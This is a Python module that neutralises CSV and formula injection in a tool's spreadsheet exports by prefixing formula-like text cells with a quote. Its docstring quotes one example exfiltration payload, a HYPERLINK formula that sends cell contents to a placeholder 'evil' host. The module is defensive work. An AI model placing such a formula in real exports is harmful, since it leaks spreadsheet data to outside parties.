"""CSV exports that a spreadsheet cannot turn into formulas (CSV / formula injection).

Every CSV cadx writes (``cadx audit export``, ``cadx predictions``, every download button of the app) goes through
this module. Following OWASP's advice, a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading single quote, so Excel, LibreOffice and Google Sheets show it as text instead of evaluating
it (``=HYPERLINK("http://evil/?"&A1, "click")`` stays a string). Numbers stay numbers: numeric cells, and text that
is a plain decimal number such as ``-0.25``, are written unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise_cell", "safe_frame", "frame_csv_bytes", "write_frame_csv",
           "write_rows_csv"]

#: Leading characters a spreadsheet may read as the start of a formula (OWASP CSV injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def neutralise_cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet: text starting like a formula gets a leading ``'``.

    Non-text values (numbers, None, booleans, timestamps) and text that is a plain number are returned unchanged.
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_PREFIXES):
        return value
    if _PLAIN_NUMBER.match(value):
        return value
    return "'" + value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are neutralised; numeric columns are untouched."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise_cell)
    out.columns = [neutralise_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def frame_csv_bytes(frame: pd.DataFrame, *, index: bool = False) -> bytes:
    """The CSV of ``frame`` (UTF-8), neutralised, for a download button."""
    return safe_frame(frame).to_csv(index=index).encode()


def write_frame_csv(frame: pd.DataFrame, target: str | Path, *, index: bool = False) -> None:
    """Write ``frame`` as a neutralised CSV file."""
    safe_frame(frame).to_csv(target, index=index)


def write_rows_csv(target: str | Path | io.TextIOBase, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write ``header`` and ``rows`` as a neutralised CSV file; returns the number of rows."""
    def _write(handle) -> int:
        writer = csv.writer(handle)
        writer.writerow([neutralise_cell(h) for h in header])
        n = 0
        for row in rows:
            writer.writerow([neutralise_cell(v) for v in row])
            n += 1
        return n

    if isinstance(target, (str, Path)):
        with Path(target).open("w", newline="") as handle:
            return _write(handle)
    return _write(target)
